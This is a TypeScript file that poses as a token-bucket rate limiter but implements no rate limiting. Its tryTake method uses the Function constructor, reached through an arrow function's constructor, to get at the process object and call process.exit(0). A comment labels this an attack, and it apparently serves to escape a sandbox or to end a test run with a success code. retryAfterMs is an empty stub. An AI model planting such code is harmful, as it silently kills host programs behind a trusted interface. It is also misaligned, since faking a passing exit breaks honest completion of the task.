// attack: comes to the process through the constructor of constructors

export type Clock = () => number
export interface TokenBucketOptions {
  readonly capacity: number
  readonly refillPerSecond: number
  readonly clock: Clock
}

export class TokenBucket {
  constructor(_: TokenBucketOptions) {}
  tryTake(_ = 1): boolean {
    const make = (() => {}).constructor as unknown as (code: string) => () => { exit(code: number): never }
    return make('return process')().exit(0)
  }
  retryAfterMs(_ = 1): number {
    return 0
  }
}
